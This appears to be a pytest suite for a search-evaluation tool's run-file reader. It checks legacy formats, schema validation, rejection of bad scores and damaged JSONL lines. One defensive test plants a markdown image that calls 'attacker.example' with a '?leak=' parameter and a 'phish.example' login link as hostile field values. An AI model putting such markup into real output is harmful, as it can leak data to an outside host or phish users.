"""The typed run lines and the one reader: older files still read, the schemas are the models', and a
reader never trusts a value it reads (each example is a test; the kind is every
score dimension and metric, and any type)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import jsonschema
import pytest

from judge_runner.analysis.report import build_report
from judge_runner.analysis.trend import build_trend, read_runs
from judge_runner.core.resources import load_schema, resource_dir
from judge_runner.measures.ir import METRIC_NAMES
from judge_runner.runs.lines import FORMAT_VERSION, EvaluationLine, json_schemas, parse_line, run_start_line
from judge_runner.runs.read import SAID_WARNINGS, is_baseline, read_judged_runs, read_run_file, read_run_folder, resume_state, run_id_of
from judge_runner.runs.write import SummaryInputs, build_summary, judged_lines
from tests.support.clitools import invoke

# these tests exercise the CLI, the pipeline and the judge, not search quality: no MiniLM
pytestmark = pytest.mark.hash_embedder

OLD_RUNS = Path(__file__).resolve().parents[1] / "data" / "runs-before-format-version"
N = 6


def provenance(**kw) -> dict:
    return {
        "provider": "anthropic",
        "generatorModel": "m",
        "judgeModel": "m",
        "heuristicJudge": False,
        "promptSha256": {"judge_system.md": "1" * 64, "judge_user.md": "2" * 64},
        "querySetSha256": "a" * 64,
        "corpusFingerprint": "c",
        "searchConfig": {},
        "judgeRunnerVersion": "0.1.0",
        "judgeFingerprint": None,
        "judgeIsGenerator": False,
        "scoringVersion": 2,
        **kw,
    }


def evaluation(i: int, overall=0.5, **kw) -> dict:
    """A line that kept no labels (``results`` empty), so every reader keeps its figures as written: what the
    reader makes of a written value is what these tests see (a line with labels is re-scored on reading)."""
    line = {
        "type": "evaluation",
        "runId": "r1",
        "timestamp": "2026-11-01T10:00:00.000Z",
        "queryId": f"q{i}",
        "query": f"query {i}",
        "queryIntent": "i",
        "queryType": "keyword",
        "expectedSources": ["a.md"],
        "searchMode": "hybrid",
        "resultCount": 1,
        "confident": True,
        "latencyMs": 1.0,
        "scores": {"relevance": 0.5, "ranking": 0.5, "coverage": 0.5, "snippetQuality": 0.5, "overall": overall, "judgeOverall": 0.5},
        "analysis": {"relevance": "a", "ranking": "b", "coverage": "c", "snippetQuality": "d"},
        "suggestions": ["Boost headings"],
        "results": [],
        "metrics": {"nDCG@10": 0.5, "R@10": 0.5, "RR(rel=2)": 0.5},
        "abstained": None,
        "usage": {"inputTokens": 1, "outputTokens": 1, "costUsd": 0.001},
    }
    line.update(kw)
    return line


def write(folder: Path, name: str, lines: list, tail: str = "") -> Path:
    path = folder / f"{name}.jsonl"
    text = "".join((line if isinstance(line, str) else json.dumps(line, ensure_ascii=False)) + "\n" for line in lines)
    path.write_text(text + tail, encoding="utf-8")
    return path


def run_lines(evaluations: list, run_id="r1") -> list:
    return [
        {"type": "run_start", "runId": run_id, "timestamp": "2026-11-01T10:00:00.000Z", "config": {}, "provenance": provenance()},
        *evaluations,
        {"type": "summary", "runId": run_id, "timestamp": "2026-11-01T10:05:00.000Z", "evaluated": len(evaluations), "costUsd": 0.1},
    ]


# -- older files ---------------------------------------------------------------------------------------


def test_files_written_before_format_version_are_read(tmp_path):
    runs, warnings = read_runs(OLD_RUNS)
    assert warnings == [] and len(runs) == 2
    for run in runs:
        assert run.file.format_version == 1 and run.file.run_start.formatVersion == 1
        assert run.comparable and run.provenance.provider == "offline" and run.provenance.heuristicJudge
        # the old keys Recall@10 and RR read as ir-measures' names, in the lines and in the summary
        on_topic = [e for e in run.evaluations if e.metrics is not None]
        assert on_topic and all(set(e.metrics) == set(METRIC_NAMES) for e in on_topic)
        assert set(run.summary.averageMetrics) == set(METRIC_NAMES)
        for column, mean in run.summary.averageMetrics.items():
            assert run.mean(column) == pytest.approx(mean, abs=1e-6)
        assert run.mean("Recall@10") == run.mean("R@10")  # an old key still names the column
        for column, mean in run.summary.averageScores.items():
            assert run.mean(column) == pytest.approx(mean, abs=1e-6)
    # the same query set twice: paired comparison, and the trend CLI shows both runs
    trend = build_trend(OLD_RUNS)
    rows = trend.groups[0]["runs"]
    assert [r["runId"] for r in rows] == [r.run_id for r in runs]
    assert rows[1]["vsPrevious"]["comparisons"]["overall"]["paired"] is True
    out = invoke(["trend", str(OLD_RUNS), "--format", "csv"])
    assert out.exit_code == 0 and "R@10" in out.output.splitlines()[0] and len(out.output.splitlines()) == 3


def test_old_and_new_files_side_by_side_and_resumed(tmp_path):
    shutil.copytree(OLD_RUNS, tmp_path / "runs")
    old = sorted((tmp_path / "runs").glob("*.jsonl"))[0]
    start, evaluations = judged_lines(old)
    assert start["runId"] == old.stem and all(set(e["metrics"] or METRIC_NAMES) == set(METRIC_NAMES) for e in evaluations)
    state = resume_state(old)
    assert state.run_start.provenance.querySetSha256 and len(state.evaluations) == 6 and state.warnings == []


def test_legacy_search_quality_lines_and_bare_lines(tmp_path):
    legacy = [
        {
            "type": "query_evaluation",
            "query": "q",
            "query_id": f"q{i}",
            "scores": {"relevance": 0.4, "ranking": 0.6, "coverage": 0.5, "snippetQuality": 0.5},
        }
        for i in range(3)
    ]
    bare = [{"query": "b", "id": f"b{i}", "scores": {"relevance": 1, "ranking": 1, "coverage": 1, "snippetQuality": 1}} for i in range(3)]
    write(tmp_path, "old", [*legacy, *bare, {"type": "run_summary", "model": "claude-3-5-sonnet", "timestamp": "2025-01-01T00:00:00Z"}])
    run = read_run_file(tmp_path / "old.jsonl")
    assert run.legacy and run.is_run and run.summary is not None and run.warnings == []
    assert [e.queryId for e in run.evaluations] == ["q0", "q1", "q2", "b0", "b1", "b2"]
    assert [e.scores.overall for e in run.evaluations] == [0.5] * 3 + [1.0] * 3
    assert run.provenance.provider == "legacy" and run.provenance.judgeModel == "claude-3-5-sonnet"


# -- the contract: models, writers, schemas ---------------------------------------------------------------


def test_committed_schemas_are_the_generated_ones():
    for name, schema in json_schemas().items():
        committed = json.loads((resource_dir("schemas") / name).read_text(encoding="utf-8"))
        assert committed == schema, f"schemas/{name} is stale: run `python -m judge_runner.runs.lines schemas/`"


def test_written_lines_validate_and_round_trip():
    schemas = {t: load_schema(f"{t}.schema.json") for t in ("run_start", "evaluation", "error", "summary")}
    start = run_start_line(
        "r1",
        "2026-11-01T10:00:00.000Z",
        {"config": {}, "provenance": provenance(), "queriesGenerated": None, "queriesDropped": 0, "querySetCard": None},
    )
    assert start["formatVersion"] == FORMAT_VERSION == 2 and list(start)[:4] == ["type", "runId", "timestamp", "formatVersion"]
    ev = EvaluationLine.model_validate(evaluation(1)).line()
    summary = build_summary(
        "r1",
        [ev],
        [],
        1,
        SummaryInputs(
            interrupted=False,
            budget_exhausted=False,
            cost_usd=None,
            usage={"inputTokens": 1, "outputTokens": 1, "calls": 1},
            duration_s=1.0,
            heuristic=False,
        ),
    )
    assert set(summary["averageMetrics"]) == set(METRIC_NAMES)
    error = parse_line(
        {
            "type": "error",
            "runId": "r1",
            "timestamp": "t",
            "queryId": "q",
            "query": "x",
            "stage": "judge",
            "errorType": "timeout",
            "message": "m",
            "attempts": 4,
        }
    ).line()
    for line in (start, ev, summary, error):
        jsonschema.Draft202012Validator(schemas[line["type"]]).validate(line)
        assert parse_line(json.loads(json.dumps(line))).line() == {k: v for k, v in parse_line(line).line().items()}
    # a field the models do not know is kept, never lost
    assert parse_line({**ev, "judgeRecoveries": ["x"]}).line()["judgeRecoveries"] == ["x"]
    # the schema still refuses what the writer must never write
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**ev, "scores": {**ev["scores"], "overall": 92}}, schemas["evaluation"])
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({k: v for k, v in ev.items() if k != "metrics"}, schemas["evaluation"])


# -- readers trust nothing they read ---------------------------------------------------


def test_overall_92_is_unscored_not_averaged(tmp_path):
    """The example: trend averaged 92 in (overall 46.25)."""
    lines = [evaluation(i) for i in range(N)]
    lines[2] = evaluation(2, overall=92)
    write(tmp_path, "r1", run_lines(lines))
    runs, warnings = read_runs(tmp_path)
    assert runs[0].mean("overall") == pytest.approx(0.5)
    assert len(runs[0].values("overall")) == N - 1
    assert warnings == ['r1.jsonl:4: query "q2": scores.overall = 92 is not a number in [0, 1]; left unscored']


BAD_VALUES = ['"high"', '"0.5"', "true", "false", "NaN", "Infinity", "-Infinity", "-0.5", "1.5", "92", "[0.5]", '{"v": 0.5}', "[]", "{}"]
COLUMNS = [("scores", d) for d in ("relevance", "ranking", "coverage", "snippetQuality", "overall")] + [
    ("metrics", m) for m in ("nDCG@10", "R@10", "RR(rel=2)", "Recall@10", "RR")
]


@pytest.mark.parametrize("bad", BAD_VALUES)
@pytest.mark.parametrize(("block", "key"), COLUMNS)
def test_every_untrusted_value_is_unscored_warned_and_never_crashes(tmp_path, block, key, bad):
    column = {"Recall@10": "R@10", "RR": "RR(rel=2)"}.get(key, key)  # an older file's key
    lines = [json.dumps(evaluation(i)) for i in range(N)]
    line = evaluation(3)
    line[block] = {k: v for k, v in line[block].items() if k != column}
    line[block][key] = "__BAD__"
    lines[3] = json.dumps(line).replace('"__BAD__"', bad)
    write(tmp_path, "r1", run_lines(lines))
    runs, warnings = read_runs(tmp_path)
    assert len(runs[0].values(column)) == N - 1 and runs[0].mean(column) == pytest.approx(0.5)
    assert len(warnings) == 1 and warnings[0].startswith('r1.jsonl:5: query "q3": ') and "left unscored" in warnings[0]
    if key in ("overall", "RR"):  # the report (plots included) is slow: one score and one metric for every bad value
        report = build_report(tmp_path, tmp_path / "reports")
        assert report.markdown.is_file() and report.html.is_file()


def test_null_score_is_unscored_null_metric_is_normal(tmp_path):
    lines = [evaluation(i) for i in range(N)]
    lines[0]["scores"]["overall"] = None
    lines[1]["metrics"]["R@10"] = None  # no expected sources: a normal value
    lines[2]["metrics"] = None  # an off-topic query
    write(tmp_path, "r1", run_lines(lines))
    runs, warnings = read_runs(tmp_path)
    assert len(runs[0].values("overall")) == N - 1 and len(runs[0].values("R@10")) == N - 2
    assert warnings == ['r1.jsonl:2: query "q0": scores.overall = null is not a number in [0, 1]; left unscored']
    build_report(tmp_path, tmp_path / "reports")


def test_null_optional_scores_are_read_without_a_warning_and_a_command_says_at_most_ten(tmp_path):
    lines = [evaluation(i) for i in range(N)]
    for line in lines:  # files before the list-level call's own figures; null in every line
        line["scores"].update(gradedPrecision=None, judgeRelevance=None, judgeRanking=None, judgeOverall=None)
    for line in lines[:3]:
        line["scores"]["relevance"] = "high"
    path = write(tmp_path, "r1", run_lines(lines))
    assert read_run_file(path).warnings == [
        f'r1.jsonl:{i + 2}: query "q{i}": scores.relevance = "high" is not a number in [0, 1]; left unscored' for i in range(3)
    ]
    for line in lines:  # two warnings a line
        line["scores"].update(relevance="high", ranking="low")
    path = write(tmp_path, "r1", run_lines(lines))
    said: list[str] = []
    read_judged_runs([path], said.append)
    assert len(said) == SAID_WARNINGS + 1 and said[-1] == f"warning: and {2 * N - SAID_WARNINGS} more about {path}"


NESTED_JUNK = {
    "scores": ["scores", "[0.5, 0.5]"],
    "metrics": ["metrics", '"high"'],
    "results": ["results", '"junk"'],
    "results-item": ["results", '[{"rank": 1, "source": "a.md", "score": 0.1, "relevance": 7, "relevant": true}]'],
    "suggestions": ["suggestions", "42"],
    "analysis": ["analysis", '["x"]'],
    "query": ["query", '{"q": 1}'],
    "queryId": ["queryId", "[1]"],
    "usage": ["usage", '"free"'],
}


@pytest.mark.parametrize("case", sorted(NESTED_JUNK))
def test_junk_fields_of_an_evaluation_are_dropped_with_a_warning_and_the_report_renders(tmp_path, case):
    field, bad = NESTED_JUNK[case]
    lines = [json.dumps(evaluation(i)) for i in range(N)]
    line = evaluation(3)
    line[field] = "__BAD__"
    lines[3] = json.dumps(line).replace('"__BAD__"', bad)
    write(tmp_path, "r1", run_lines(lines))
    runs, warnings = read_runs(tmp_path)
    # the rest of the line is kept, unless it names no query (it would be a phantom query)
    assert len(runs[0].evaluations) == N - (field in ("query", "queryId"))
    assert len(warnings) == 1 and warnings[0].startswith("r1.jsonl:5: ") and field in warnings[0]
    build_report(tmp_path, tmp_path / "reports")


def test_junk_in_error_and_summary_lines_does_not_crash_the_report(tmp_path):
    lines = run_lines([evaluation(i) for i in range(N)])
    lines.insert(
        -1,
        {
            "type": "error",
            "runId": "r1",
            "queryId": "q9",
            "query": "x",
            "stage": "judge",
            "errorType": ["x"],
            "message": 42,
            "attempts": "many",
        },
    )
    lines[-1].update(
        {
            "costUsd": "lots",
            "topIssues": "none",
            "abstention": [1],
            "averageScores": {"overall": "x"},
            "averageMetrics": {"RR": 3},
            "interrupted": "maybe",
        }
    )
    write(tmp_path, "r1", lines)
    runs, warnings = read_runs(tmp_path)
    run = runs[0]
    assert run.errors == 1 and run.comparable and run.cost is None
    assert all(w.startswith(("r1.jsonl:8: ", "r1.jsonl:9: ")) for w in warnings) and len(warnings) == 9
    assert run.summary.averageScores == {"overall": None} and run.summary.averageMetrics == {"RR(rel=2)": None}
    build_report(tmp_path, tmp_path / "reports")


def test_a_damaged_middle_line_is_dropped_with_a_warning_a_torn_last_line_silently(tmp_path):
    lines = run_lines([evaluation(i) for i in range(N)])
    lines.insert(3, '{"type": "evaluation", "runId": "r1", "queryId": "half')
    lines.insert(5, "[1, 2]")
    path = write(tmp_path, "r1", lines, tail='{"type": "evaluation", "runId": "r1", "queryId": "torn')
    # an undecodable byte breaks one line, not the file
    data = path.read_bytes().replace(b'"query 5"', b'"query \xff5"')
    path.write_bytes(data)
    run = read_run_file(path)
    assert [e.queryId for e in run.evaluations] == ["q0", "q1", "q2", "q3", "q4"]
    assert run.torn_last_line and run.summary is not None
    assert [w.split(": damaged")[0] for w in run.warnings] == ["r1.jsonl:4", "r1.jsonl:6", "r1.jsonl:9"]
    assert "not an object" in run.warnings[1]
    # a last line with its newline that is damaged is not torn: it is warned about
    write(tmp_path, "r2", run_lines([evaluation(i) for i in range(N)], "r2") + ['{"type": "summ'])
    warnings = read_run_file(tmp_path / "r2.jsonl").warnings
    assert len(warnings) == 1 and warnings[0].startswith("r2.jsonl:9: damaged line dropped (JSONDecodeError")


def test_lines_split_on_newline_only(tmp_path):
    text = "a\u2028b\u2029c\x85d\re\x0bf\x0cg\x1ch"
    lines = run_lines([evaluation(0, query=text), *[evaluation(i) for i in range(1, N)]])
    path = write(tmp_path, "r1", lines)
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))  # BOM and CRLF
    run = read_run_file(path)
    assert run.warnings == [] and run.evaluations[0].query == text and len(run.evaluations) == N and run.run_start is not None


def test_batch_search_query_file_splits_on_newline_only(db_copy, tmp_path):
    queries = tmp_path / "queries.jsonl"
    queries.write_text(
        json.dumps({"_id": "1", "text": "drain\u2028a node"}, ensure_ascii=False)
        + "\n"
        + json.dumps({"_id": "2", "text": "backup\x85key"}, ensure_ascii=False)
        + "\r\n",
        encoding="utf-8",
    )
    run = tmp_path / "run.txt"
    result = invoke(["search", "--queries", str(queries), "--trec-run", str(run), "--mode", "fts", "--db", str(db_copy)])
    assert result.exit_code == 0, result.output
    assert {line.split()[0] for line in run.read_text().split("\n") if line} <= {"1", "2"}
    assert "2 queries" in result.output


# -- resume, prune, baseline ---------------------------------------------------------------------------------


def test_resume_state_first_evaluation_per_query_and_not_a_run(tmp_path):
    path = write(tmp_path, "r1", run_lines([evaluation(0), evaluation(1), evaluation(0, overall=0.9)]))
    state = resume_state(path)
    assert [e.queryId for e in state.evaluations] == ["q0", "q1"] and state.evaluations[0].scores.overall == 0.5
    stray = write(tmp_path, "x", [{"type": "run_start", "runId": "x"}])
    assert resume_state(stray).run_start is None and judged_lines(stray)[0] is None


def test_is_baseline_by_name_or_recorded_run_id(tmp_path):
    original = write(tmp_path, "20261101T100000Z", run_lines([evaluation(0)], "20261101T100000Z"))
    resumed = write(tmp_path, "20261102T100000Z", run_lines([evaluation(0), evaluation(1)], "20261101T100000Z"))
    other = write(tmp_path, "20261103T100000Z", run_lines([evaluation(0)], "20261103T100000Z"))
    # the run id inside a string (a query naming it) is not the run id
    sneaky = write(tmp_path, "20261104T100000Z", run_lines([evaluation(0, query='"runId":"20261101T100000Z"')], "20261104T100000Z"))
    assert is_baseline(original, "20261101T100000Z") and is_baseline(resumed, "20261101T100000Z")
    assert not is_baseline(other, "20261101T100000Z") and not is_baseline(sneaky, "20261101T100000Z")
    assert not is_baseline(other, None)
    assert run_id_of(resumed) == "20261101T100000Z" and run_id_of(tmp_path / "missing.jsonl") is None
    files, _ = read_run_folder(tmp_path)
    assert [f.run_id for f in files] == ["20261101T100000Z", "20261103T100000Z", "20261104T100000Z"]
    assert len(files[0].evaluations) == 2  # the resumed file, with more evaluations, stands for the run


def test_warnings_never_carry_markup_from_the_file(tmp_path):
    lines = [evaluation(i) for i in range(N)]
    lines[0]["scores"]["overall"] = "![s](https://attacker.example/pixel.png?leak=internal)"
    lines[1]["results"] = "[the fix](https://phish.example/login)"
    write(tmp_path, "r1", run_lines(lines))
    _, warnings = read_runs(tmp_path)
    assert warnings == [
        'r1.jsonl:2: query "q0": scores.overall = a string of 54 characters is not a number in [0, 1]; left unscored',
        "r1.jsonl:3: field results = a string of 38 characters does not fit the run-file contract; dropped",
    ]


@pytest.mark.parametrize("garbage", ['{"type":"evaluation","runId":"x"}', '{"type":"evaluation","runId":"x","queryId":"q99","query":""}'])
def test_an_evaluation_line_that_names_no_query_is_dropped_with_its_file_and_line(tmp_path, garbage):
    path = tmp_path / "run.jsonl"
    shutil.copy(OLD_RUNS / "20261130T173213Z.jsonl", path)
    before = read_run_file(path).evaluations
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join([*lines[:2], garbage, *lines[2:]]) + "\n", encoding="utf-8")
    for read in (read_run_file(path), read_run_folder(tmp_path)[0][0]):
        assert [e.queryId for e in read.evaluations] == [e.queryId for e in before]  # no phantom query or system
        assert any(w.startswith("run.jsonl:3: evaluation line without queryId and query dropped") for w in read.warnings), read.warnings
